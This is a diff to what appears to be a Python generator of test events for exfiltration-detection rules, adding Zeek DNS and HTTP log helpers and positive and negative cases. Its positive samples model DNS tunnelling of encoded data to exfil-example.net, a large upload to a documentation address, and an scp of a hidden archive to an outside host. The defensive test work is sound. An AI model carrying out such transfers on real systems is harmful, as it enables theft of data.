@@ -122,6 +122,33 @@ def conn(image, dest_ip, port, initiated="true"):
     }
 
 
+def zeek(path, fields, minutes=0):
+    """One Zeek JSON log record (`_path` names the log) from a sensor at the border."""
+    record = {
+        "_path": path,
+        "ts": (BASE_TIME + timedelta(minutes=minutes)).timestamp(),
+        "uid": "CkFq3a1bT9xq2Yk8Qe",
+        "id.orig_h": "10.1.2.30",
+        "id.orig_p": 50211,
+    }
+    record.update(fields)
+    return record
+
+
+def zeek_dns(query, qtype="A"):
+    """A Zeek dns.log record asking the internal resolver for `query`."""
+    return zeek("dns", {"id.resp_h": "10.1.0.2", "id.resp_p": 53, "proto": "udp", "query": query,
+                        "qtype_name": qtype, "rcode_name": "NOERROR", "answers": []})
+
+
+def zeek_http(method, host, uri, request_body_len, response_body_len=0):
+    """A Zeek http.log record to 198.51.100.4."""
+    return zeek("http", {"id.resp_h": "198.51.100.4", "id.resp_p": 80, "trans_depth": 1, "method": method,
+                         "host": host, "uri": uri, "user_agent": "curl/8.4.0",
+                         "request_body_len": request_body_len, "response_body_len": response_body_len,
+                         "status_code": 200})
+
+
 SYS32 = "C:\\Windows\\System32\\"
 PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
 TOOLS = "C:\\Users\\Public\\tools\\"
@@ -363,7 +390,10 @@ CASES = {
             event("sysmon22", dns(SYS32 + "nslookup.exe", "4d5a90000300000004000000ffff0000b800000000000000.d.exfil-example.net")),
             event("sysmon22", dns(PS, "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.exfil-example.net")),
         ],
-        "neg": [event("sysmon22", dns(PS, "login.microsoftonline.com"))],
+        "neg": [
+            event("sysmon22", dns(PS, "login.microsoftonline.com")),
+            event("sysmon22", dns("C:\\Program Files\\Vendor\\player.exe", "3f786850e387550fdab836ed7e6dc881de23001b.beacon.analytics-example.net")),
+        ],
     },
     # ---------------- Linux ----------------
     "lnx_transfer_tool_from_cron": {
@@ -422,6 +452,26 @@ CASES = {
         "pos": [event("lnx1", lproc("/usr/bin/scp", "scp /tmp/.d.tgz u@203.0.113.7:/srv/"))],
         "neg": [event("lnx1", lproc("/usr/bin/curl", "curl -s https://example.com/"))],
     },
+    # ---------------- Network sensor (Zeek) ----------------
+    "zeek_dns_encoded_long_label": {
+        "pos": [
+            zeek_dns("4d5a90000300000004000000ffff0000b800000000000000.d.exfil-example.net"),
+            zeek_dns("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.exfil-example.net", qtype="TXT"),
+        ],
+        "neg": [
+            zeek_dns("www.corp.example"),
+            # a SHA-1 (40 hex) keyed analytics host name is not encoded data
+            zeek_dns("3f786850e387550fdab836ed7e6dc881de23001b.beacon.analytics-example.net"),
+            zeek_dns("4.3.2.1.0.0.0.0.8.b.d.0.1.0.0.2.0000000000000000000000000000000000000000.ip6.arpa", qtype="PTR"),
+        ],
+    },
+    "zeek_http_large_upload": {
+        "pos": [zeek_http("POST", "198.51.100.4", "/upload.php", 52428800)],
+        "neg": [
+            zeek_http("GET", "dl.example.com", "/iso/big.iso", 0, 4294967296),
+            zeek_http("POST", "api.example.com", "/v1/telemetry", 4096),
+        ],
+    },
     # ---------------- Correlations (one host, in time order) ----------------
     "corr_win_archive_then_transfer": {
         "pos": [
@@ -461,7 +511,7 @@ CASES = {
 }
 
 
-GENERATED_FOLDERS = ("windows", "linux", "correlation")
+GENERATED_FOLDERS = ("windows", "linux", "network", "correlation")
 
 
 def main():
